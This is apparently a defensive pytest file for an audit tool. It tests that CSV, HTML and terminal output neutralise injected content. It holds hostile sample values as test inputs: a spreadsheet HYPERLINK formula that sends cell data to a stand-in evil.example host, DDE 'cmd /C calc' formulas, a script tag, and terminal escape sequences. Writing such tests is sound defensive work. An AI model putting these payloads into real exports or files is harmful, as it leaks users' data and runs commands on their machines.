"""Reports open as data in every format, whatever a producer put in a field (issue 12)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from rich.console import Console

from streams.audit.report import render_html, write_csv
from streams.cli import output

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_a_spreadsheet_would_evaluate_is_written_as_text(value: str) -> None:
    out = io.StringIO()
    write_csv([{"actor": value, "records": -3}], ["actor", "records"], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row["actor"] == "'" + value  # a leading quote: the spreadsheet shows text
    assert row["records"] == "-3"  # a number stays a number


def test_harmless_csv_cells_are_unchanged() -> None:
    out = io.StringIO()
    write_csv([{"actor": "sa-042", "ticket": "T-1=2"}], ["actor", "ticket"], out)
    assert out.getvalue().splitlines()[1] == "sa-042,T-1=2"


def test_html_report_escapes_every_field() -> None:
    page = render_html("<b>t</b>", "<i>s</i>", [{"sentence": "<script>alert(1)</script>"}])
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b>t</b>" not in page and "<i>s</i>" not in page


def test_table_shows_markup_and_terminal_escapes_as_text() -> None:
    console = Console(file=io.StringIO(), width=200, force_terminal=False)
    hostile = "[red]x[/red] \x1b[2J\x1b]0;pwned\x07 [link=http://e.example]y[/link]"
    output.emit([{"actor": hostile}], ["actor"], as_json=False, console=console)
    shown = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b" not in shown and "\x07" not in shown
    assert "\\x1b[2J" in shown and "[red]x[/red]" in shown and "[link=http://e.example]" in shown


def test_json_lines_carry_values_exactly(capsys: pytest.CaptureFixture[str]) -> None:
    value = '=HYPERLINK("x")\x1b[2J'
    output.emit([{"actor": value}], ["actor"], as_json=True)
    assert json.loads(capsys.readouterr().out) == {"actor": value}


def test_an_error_message_cannot_carry_markup(capsys: pytest.CaptureFixture[str]) -> None:
    output.fail("unknown rule [severity] hri.bulk_dowload\x1b[31m")
    err = capsys.readouterr().err
    assert "[severity]" in err and "\x1b[31m" not in err
